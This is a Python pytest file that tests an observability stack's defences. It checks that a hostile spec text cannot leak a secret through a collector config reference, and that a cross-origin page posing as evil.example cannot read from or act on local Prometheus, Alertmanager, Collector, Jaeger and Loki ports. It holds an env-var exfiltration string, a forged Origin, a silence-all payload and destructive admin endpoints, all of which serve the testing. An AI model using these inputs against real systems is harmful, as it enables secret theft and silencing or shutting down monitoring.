"""Attacks on the real programs: a spec from a stranger, and a page in somebody's browser."""

from __future__ import annotations

import http.server
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx
import pytest

from imsobs.runtime.build.binaries import locate, resolve_binary
from imsobs.runtime.process.plan import load_plan
from imsobs.runtime.process.stack import RunningStack, running_stack
from imsobs.runtime.progress import Silent
from imsobs.runtime.trial import render_trial

ROOT = Path(__file__).resolve().parents[2]
SPEC = ROOT / "spec/ims.yaml"
pytestmark = pytest.mark.native


@contextmanager
def listener() -> Iterator[tuple[int, list[str]]]:
    """Yield a port and the paths that are asked for there."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"x")

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield server.server_address[1], asked
        finally:
            server.shutdown()
            thread.join()


def test_a_text_of_the_spec_sends_no_secret_anywhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "canary")
    otelcol = resolve_binary("otelcol", ROOT)
    with listener() as (port, asked):
        text = f"${{http://127.0.0.1:{port}/${{env:AWS_SECRET_ACCESS_KEY}}}}"
        overlay = {"metrics": {"ims_requests_total": {"description": f"Requests. {text}"}}}
        project = render_trial(tmp_path / "project", SPEC, overlay)
        config = project / "collector/config.yaml"
        command = [str(otelcol), "validate", "--config", str(config)]
        # With the caller's whole environment: the escape alone must hold.
        done = subprocess.run(command, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr
        assert asked == []
        # The same text as a reference would have told it, so this test can fail.
        config.write_text(config.read_text().replace("$$", "$"))
        subprocess.run(command, capture_output=True, text=True, check=False)
        assert asked == ["/canary"]


EVIL = {"Host": "evil.example", "Origin": "http://evil.example"}
# What a page may send without asking first (a "simple request" of the Fetch standard).
SIMPLE = ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data")


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningStack]:
    """The native stack, Loki in it where it has been built."""
    folder = tmp_path_factory.mktemp("web")
    root = render_trial(folder / "project", SPEC)
    plan = load_plan(root)
    only = tuple(
        name
        for name, process in plan.processes.items()
        if not plan.components[process.component].optional
        or (name == "loki" and locate(plan, root, "loki", Silent()) is not None)
    )
    with running_stack(root, folder / "state", only=only) as live:
        yield live


@pytest.fixture
def page() -> Iterator[httpx.Client]:
    """A page of another origin, in a browser of this machine; its name leads to loopback."""
    with httpx.Client(headers=EVIL, timeout=10, trust_env=False) as client:
        yield client


def _ports(web: RunningStack) -> list[tuple[str, str, int]]:
    return [
        (name, label, port)
        for name, process in web.plan.processes.items()
        for label, port in process.ports.items()
    ]


def _ask(client: httpx.Client, method: str, url: str, **more: object) -> httpx.Response | None:
    """Return the answer; None from what does not speak HTTP/1.1 (gRPC) or listens nowhere."""
    try:
        return client.request(method, url, **more)  # type: ignore[arg-type]
    except httpx.TransportError:
        return None


def test_no_port_lets_a_page_of_another_origin_read(web: RunningStack, page: httpx.Client) -> None:
    asked = 0
    for name, label, port in _ports(web):
        for path in ("/", "/metrics", "/api/v1/query?query=up", "/api/v2/alerts", "/api/services"):
            answer = _ask(page, "GET", f"http://127.0.0.1:{port}{path}")
            if answer is not None:
                asked += 1
                allowed = answer.headers.get("Access-Control-Allow-Origin")
                assert allowed is None, f"{name} {label} {path}: {allowed}"
        preflight = {
            "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "content-type",
        }
        answer = _ask(
            page, "OPTIONS", f"http://127.0.0.1:{port}/api/v2/silences", headers=preflight
        )
        if answer is not None:
            assert "Access-Control-Allow-Origin" not in answer.headers, f"{name} {label}"
    assert asked > 40


ACTIONS = [
    ("prometheus", "http", "/-/quit"),
    ("prometheus", "http", "/-/reload"),
    ("prometheus", "http", "/api/v1/admin/tsdb/delete_series?match[]=up"),
    ("prometheus", "http", "/api/v1/write"),
    ("prometheus", "http", "/api/v1/otlp/v1/metrics"),
    ("alertmanager", "http", "/api/v2/silences"),
    ("alertmanager", "http", "/api/v2/alerts"),
    ("otelcol", "otlp_http", "/v1/traces"),
    ("otelcol", "otlp_http", "/v1/logs"),
    ("otelcol", "otlp_http", "/v1/metrics"),
    ("otelcol", "otlp_grpc", "/opentelemetry.proto.collector.trace.v1.TraceService/Export"),
    ("jaeger", "otlp_grpc", "/opentelemetry.proto.collector.trace.v1.TraceService/Export"),
]
SILENCE = (
    '{"matchers": [{"name": "alertname", "value": ".+", "isRegex": true}], "createdBy": "evil",'
    ' "comment": "x", "startsAt": "2026-01-01T00:00:00Z", "endsAt": "2099-01-01T00:00:00Z"}'
)


@pytest.mark.parametrize(("name", "label", "path"), ACTIONS)
def test_no_page_of_another_origin_can_act(
    web: RunningStack, page: httpx.Client, name: str, label: str, path: str
) -> None:
    """What needs no preflight is refused; what needs one is not allowed (above)."""
    url = f"http://127.0.0.1:{web.port(name, label)}{path}"
    for kind in SIMPLE:
        answer = _ask(page, "POST", url, content=SILENCE, headers={"Content-Type": kind})
        assert answer is None or answer.status_code >= 400, f"{kind}: {answer.status_code}"
    alertmanager = f"http://127.0.0.1:{web.port('alertmanager', 'http')}/api/v2"
    assert page.get(f"{alertmanager}/silences").json() == []


LOKI = ["/ingester/shutdown", "/ingester/prepare_shutdown", "/flush", "/log_level", "/config",
        "/loki/api/v1/delete", "/loki/api/v1/push", "/otlp/v1/logs", "/ready"]  # fmt: skip


def test_loki_answers_nobody_who_does_not_know_its_path(
    web: RunningStack, page: httpx.Client
) -> None:
    if "loki" not in web.plan.processes:
        pytest.skip("loki: not built here; imsobs binaries loki builds it")
    base = f"http://127.0.0.1:{web.port('loki', 'http')}"
    for path in LOKI:
        for method in ("GET", "POST"):
            answer = _ask(page, method, f"{base}{path}", content="{}")
            assert answer is not None
            assert answer.status_code == 404, f"{method} {path}: {answer.status_code}"
    own = f"{base}/{web.layout.loki_path()}"
    with httpx.Client(trust_env=False) as known:
        assert known.get(f"{own}/ready").status_code == 200
        query = {"query": '{service_name="x"}', "start": "0"}
        deleted = known.post(f"{own}/loki/api/v1/delete", params=query)
        assert deleted.status_code >= 400, deleted.text


def test_a_foreign_host_is_answered_where_the_threat_model_says_so(
    web: RunningStack, page: httpx.Client
) -> None:
    """None of these programs knows which names are its own: docs/guide/security.md, rebinding."""
    answering = {
        name
        for name, label, port in _ports(web)
        for path in ("/api/v1/status/buildinfo", "/api/v2/status", "/api/services")
        if (answer := _ask(page, "GET", f"http://127.0.0.1:{port}{path}")) is not None
        and answer.is_success
    }
    assert answering == {"prometheus", "alertmanager", "jaeger", "otelcol"}
